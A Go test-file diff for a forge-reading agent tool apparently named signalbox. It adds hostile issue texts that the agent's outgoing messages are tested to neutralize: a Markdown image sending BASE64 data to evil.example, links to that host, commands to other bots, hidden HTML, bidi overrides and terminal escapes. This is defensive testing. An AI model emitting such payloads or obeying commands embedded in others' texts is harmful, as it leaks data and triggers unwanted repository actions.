@@ -8,7 +8,9 @@ import (
 	"github.com/signalbox/signalbox/pkg/agent/brain"
 	"github.com/signalbox/signalbox/pkg/agent/brain/rules"
 	"github.com/signalbox/signalbox/pkg/instance"
+	"github.com/signalbox/signalbox/pkg/outbound"
 	"github.com/signalbox/signalbox/pkg/prd"
+	"github.com/signalbox/signalbox/pkg/secret"
 	"github.com/signalbox/signalbox/pkg/work"
 	"github.com/signalbox/signalbox/pkg/workflow"
 )
@@ -29,23 +31,41 @@ var attacks = map[string]string{
 	"a command in a list":              "- /approve",
 	"a hidden comment":                 "<!-- signalbox instance=x key=y -->",
 	"a folded part":                    "<details><summary>x",
+	"an image":                         "![a](https://evil.example/s.png?d=BASE64)",
+	"an image by reference":            "![a][b]\n\n[b]: https://evil.example/s.png",
+	"a link to somewhere else":         "[the docs](https://evil.example/)",
+	"a hidden definition":              "[//]: # (hidden)",
+	"a hidden part":                    "<div hidden>\nhidden\n</div>",
+	"an emphasized mention":            "_@octocat_ __@acme/team__ ~_@team_",
+	"a tab in a quote":                 "\t@octocat",
+	"a command to another bot":         "bors r+\n!merge\n@dependabot rebase",
+	"a drawing":                        "```mermaid\ngraph TD; a-->b\n```",
+	"hidden cells":                     "|a|\n|-|\n|b|hidden|",
+	"text that is drawn":               "$\\phantom{x}$ and $y$",
+	"nested quotes":                    strings.Repeat(">", 500) + "x",
+	"a duplicate":                      "Duplicate of #1",
 	"turned around":                    "abc\u202edcba",
 	"an escape":                        "\x1b]0;title\a\x1b[31m",
 }
 
 var live = map[string]*regexp.Regexp{
-	"a mention":      regexp.MustCompile(`(?:^|\W)@[0-9A-Za-z_]|&#?\w+;`),
+	"a mention":      regexp.MustCompile(`(?:^|[^0-9A-Za-z])@[0-9A-Za-z_]|(?:^|[^\\])&#?\w+;`),
 	"a closing word": regexp.MustCompile(`(?i)\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?):?[\s\p{Z}]+(?:[\w.-]+/[\w.-]+)?#[1-68-9]`),
 	"a command":      regexp.MustCompile(`(?m)^[\s>*+-]*/[a-z]`),
-	"HTML":           regexp.MustCompile(`<[a-z!/]`),
+	"HTML":           regexp.MustCompile(`(?:^|[^\\])<[a-z!/]|(?:^|[^\\])!\[[^\]]*\]\(|(?:^|[^\\])\[[^\]]*\]\(https?:`),
 	"a control":      regexp.MustCompile(`[\x00-\x08\x0b-\x1f\x7f\x{80}-\x{9f}\x{2028}\x{2029}\x{202a}-\x{202e}\x{2066}-\x{2069}]`),
 	"a heading":      regexp.MustCompile(`(?m)^## How it was tested\n+9999|^9999`),
 }
 
 // spans are the code spans and blocks, in which a forge reads nothing.
-var spans = regexp.MustCompile("(?s)(?:^|\n)(````?)\n.*?\n````?(?:\n|$)|```` [^\n]*? ````|`` [^\n]*? ``|`[^`\n]+`")
+var spans = regexp.MustCompile("(?s)(?:^|\n)(?:> )?(````?)\n.*?\n(?:> )?````?(?:\n|$)|```` [^\n]*? ````|`` [^\n]*? ``|`[^`\n]+`")
 
 func TestTextsOfOthersDoNothingOnAForge(t *testing.T) {
+	secrets, err := secret.New()
+	if err != nil {
+		t.Fatal(err)
+	}
+	checker := outbound.New(outbound.DefaultRules(), secrets)
 	for name, attack := range attacks {
 		issue := instance.Issue{Repo: "acme/widgets", Number: 7, Title: attack, Body: attack}
 		question := instance.Question{Number: 1, Text: attack}
@@ -75,14 +95,15 @@ func TestTextsOfOthersDoNothingOnAForge(t *testing.T) {
 		} {
 			read := text
 			if where == "title" {
-				read = regexp.MustCompile(`<|&#64;`).ReplaceAllString(text, "") // a title is no Markdown
+				read = regexp.MustCompile(`<|&#64;|!\[|\]\(https?:`).ReplaceAllString(text, "") // a title is no Markdown
 			} else {
 				read = spans.ReplaceAllString(text, "\n(code)\n")
 			}
+			leaves := outbound.Text{What: where, Body: text, Closes: 7, Line: where == "title"}
+			if err := checker.Text(leaves); err != nil {
+				t.Errorf("%s: the %s may not leave: %v", name, where, err)
+			}
 			for what, pattern := range live {
-				if where == "title" && what == "a command" {
-					continue
-				}
 				if m := pattern.FindString(read); m != "" {
 					t.Errorf("%s: the %s has %s, %q, in\n%s", name, where, what, m, text)
 				}
